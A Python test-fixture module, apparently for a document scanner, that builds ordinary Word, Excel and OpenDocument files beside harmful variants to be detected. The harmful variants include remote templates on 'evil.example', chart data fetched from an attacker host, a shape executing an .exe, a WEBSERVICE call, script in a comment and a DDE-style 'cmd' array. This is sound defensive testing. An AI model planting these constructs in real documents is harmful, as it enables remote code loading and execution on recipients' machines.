"""What Word, Excel, PowerPoint, LibreOffice and the offices of the web write of their own accord, and beside each form
what it would be with harm in it."""

from collections.abc import Mapping

from tests.foundation.files.harmful.packages import (
    DOCUMENT,
    EVIL,
    EXCEL,
    PACKAGE,
    SPACES,
    WORD,
    XML,
    W,
    cell,
    formula,
    odf,
    relations_of,
    run,
    settings,
    sheet,
    word,
)
from tests.foundation.files.offices import changed, zipped
from tests.hostile import Made

_TEMPLATE = f"{DOCUMENT}/relationships/attachedTemplate"
_CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
_DRAWN = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
_FIGURES = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"
_SIGNED = f"{PACKAGE}/relationships/digital-signature"
_NAMES = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in SPACES.items())


def chart(figures: bytes, *, mode: str = "", target: str = f"../{_FIGURES[5:]}") -> bytes:
    """A text with a chart, whose figures lie in a workbook in it."""
    parts: Mapping[str, str | bytes] = {
        "word/_rels/document.xml.rels": relations_of(
            (f"{DOCUMENT}/relationships/chart", "charts/chart1.xml", "")
        ),
        "word/charts/chart1.xml": f'{XML}<c:chartSpace xmlns:c="{_CHART}" xmlns:r="{DOCUMENT}/relationships">'
        '<c:externalData r:id="r1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>',
        "word/charts/_rels/chart1.xml.rels": relations_of(
            (f"{DOCUMENT}/relationships/package", target, mode)
        ),
        _FIGURES: figures,
    }
    return word(parts=parts, types={"word/charts/chart1.xml": _DRAWN, _FIGURES: f"{EXCEL}.sheet"})


def comment(inside: str = "<div style='text-align:left'><font face='Tahoma'>Vu</font></div>") -> bytes:
    """A workbook with the drawing that Excel makes of a comment."""
    return sheet(
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relations_of(
                (f"{DOCUMENT}/relationships/vmlDrawing", "../drawings/vmlDrawing1.vml", "")
            ),
            "xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="urn:schemas-microsoft-com:vml">'
            f"<v:shape><v:textbox>{inside}</v:textbox></v:shape></xml>",
        },
        types={"xl/drawings/vmlDrawing1.vml": "application/vnd.openxmlformats-officedocument.vmlDrawing"},
    )


def modelled(address: str) -> bytes:
    """A text of OpenDocument that was made from a model."""
    return odf(
        "<text:p/>",
        parts={
            "meta.xml": f"{XML}<office:document-meta {_NAMES}><office:meta><meta:template xlink:type='simple' "
            f"xlink:href='{address}'/></office:meta></office:document-meta>"
        },
    )


def of_the_web(main: str = "word/document2.xml") -> bytes:
    """A text whose main part has another name, as Word on the web writes it."""
    types = (
        f'{XML}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main}" ContentType="{WORD}.document.main+xml"/></Types>'
    )
    relations = relations_of((f"{DOCUMENT}/relationships/officeDocument", main, ""))
    body = f'{XML}<w:document xmlns:w="{W}"><w:body/></w:document>'
    return zipped({"[Content_Types].xml": types, "_rels/.rels": relations, main: body})


def _nested(other: str = "") -> str:
    """Content types of a workbook that holds another one; of a text beside the workbook `other`."""
    mains = f'<Override PartName="/{other}" ContentType="{EXCEL}.sheet.main+xml"/>' if other else ""
    mine = (
        f'<Override PartName="/word/document2.xml" ContentType="{WORD}.document.main+xml"/>'
        if other
        else f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{EXCEL}.worksheet+xml"/>'
    )
    return (
        f'{XML}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xlsx" ContentType="{EXCEL}.sheet"/>{mine}{mains}</Types>'
    )


def _lines(*names: tuple[str, str]) -> str:
    """Lines of a manifest: names of parts and what they are."""
    return "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{kind}"/>'
        for name, kind in names
    )


def _signed() -> bytes:
    """A text that somebody signed."""
    kind = "application/vnd.openxmlformats-package.digital-signature"
    return word(
        parts={
            "_rels/.rels": relations_of(
                (f"{DOCUMENT}/relationships/officeDocument", "word/document.xml", ""),
                (f"{_SIGNED}/origin", "_xmlsignatures/origin.sigs", ""),
            ),
            "_xmlsignatures/origin.sigs": b"",
            "_xmlsignatures/_rels/origin.sigs.rels": relations_of((f"{_SIGNED}/signature", "sig1.xml", "")),
            "_xmlsignatures/sig1.xml": f'{XML}<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
        },
        types={
            "_xmlsignatures/origin.sigs": f"{kind}-origin", "_xmlsignatures/sig1.xml": f"{kind}-xmlsignature+xml",
        },
    )  # fmt: skip


_PRESS = (
    '<presentation:event-listener xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    "presentation:action='{}' xlink:href='{}'/>"
)
_MACRO_SHEET = (
    f"{EXCEL.replace('openxmlformats-officedocument.spreadsheetml', 'ms-excel')}.sheet.macroEnabled.main+xml"
)

ORDINARY: dict[str, tuple[str, bytes]] = {
    "chart with its figures": ("docx", chart(sheet())),
    "comment of a sheet": ("xlsx", comment()),
    "book of LibreOffice": ("xlsx", sheet(book='<extCalcPr xmlns="http://schemas.libreoffice.org/"/>')),
    "sheet of the web": ("xlsx", sheet(book='<x xmlns="http://customooxmlschemas.google.com/"/>')),
    "text of the web": ("docx", of_the_web()),
    "model of the own disk": ("docx", settings(_TEMPLATE, target="file:///C:\\Mod%C3%A8les\\Lettre.dotx")),
    "open model of the own disk": ("odt", modelled("file:///C:/Mod%C3%A8les/Lettre.ott")),
    "open model beside": ("odt", modelled("../../usr/share/templates/lettre.ott")),
    "citations of a library": ("docx", word(f"<w:p>{run(' ADDIN ZOTERO_ITEM {&quot;id&quot;:1}')}</w:p>")),
    "signed text": ("docx", _signed()),
    "names written twice": ("odt", odf("<text:p xml:id='a'/><text:p xml:id='a'/>")),
    "text of Word in OpenDocument": ("odt", odf("<text:p/>", manifest=_lines(("mimetype", "text/plain")))),
    "keys of an object": (
        "odt", odf("<text:p/>", parts={"Object 1/Configurations2/accelerator/current.xml": ""}),
    ),
    "page that a shape leads to": ("odt", odf(_PRESS.format("show", "https://x.fr"))),
    "functions by their maker": ("ods", cell("of:=COM.MICROSOFT.CONCAT(1;2)+SUM({1;2|3;4})")),
    "words that are no link": ("xlsx", formula("IF(A1=&quot;file:///C:/x&quot;,SUM(A2),2)")),
    "what the machine is": ("xlsx", formula("INFO(&quot;system&quot;)")),
}  # fmt: skip

OFFICES: dict[str, Made] = {
    "macros in the figures of a chart": lambda: chart(sheet(kind=_MACRO_SHEET)),
    "another book in the figures of a chart": lambda: chart(formula("[1]Feuil1!A1")),
    "figures that are fetched": lambda: chart(sheet(), mode="External", target=f"{EVIL}.xlsx"),
    "a text for the figures of a chart": lambda: chart(word()),
    "a chart in the figures of a chart": lambda: chart(
        changed(sheet(), {"xl/embeddings/a.xlsx": sheet(), "[Content_Types].xml": _nested()})
    ),
    "a document in a text": lambda: word(
        parts={
            "word/_rels/document.xml.rels": relations_of(
                (f"{DOCUMENT}/relationships/package", "embeddings/a.xlsx", "")
            ),
            "word/embeddings/a.xlsx": sheet(),
        },
        types={"word/embeddings/a.xlsx": f"{EXCEL}.sheet"},
    ),
    "a comment with a script": lambda: comment("<script>x</script>"),
    "a comment with a picture of elsewhere": lambda: comment(f"<img src='{EVIL}'/>"),
    "model of another machine": lambda: settings(_TEMPLATE, target="file://evil.example/share/x.dotm"),
    "model of another machine, as Windows names it": lambda: settings(_TEMPLATE, target="\\\\evil.example\\x.dotm"),
    "model of another machine, by five strokes": lambda: settings(_TEMPLATE, target="file://///evil.example/x.dotm"),
    "model in the package": lambda: settings(_TEMPLATE, mode="", target="media/x.dotm"),
    "open model of the web": lambda: modelled(EVIL),
    "open model of another machine": lambda: modelled("file:////evil.example/x.ott"),
    "two texts in one": lambda: changed(
        of_the_web(), {"xl/workbook.xml": "<workbook/>", "[Content_Types].xml": _nested("xl/workbook.xml")}
    ),
    "a field beside citations": lambda: word(f"<w:p>{run(' ADDINX cmd')}</w:p>"),
    "a shape that runs": lambda: odf(_PRESS.format("execute", "file:///C:/x.exe")),
    "a function of the web by its maker": lambda: cell("of:=COM.MICROSOFT.WEBSERVICE(&quot;https://x&quot;)"),
    "a formula that leads to another machine": lambda: formula("HYPERLINK(&quot;file://evil.example/x&quot;)"),
    "a program between rows": lambda: cell("of:={1|cmd|2}"),
    "another book by what LibreOffice adds": lambda: sheet(
        book='<externalBook xmlns="http://schemas.libreoffice.org/"/>'
    ),
}  # fmt: skip
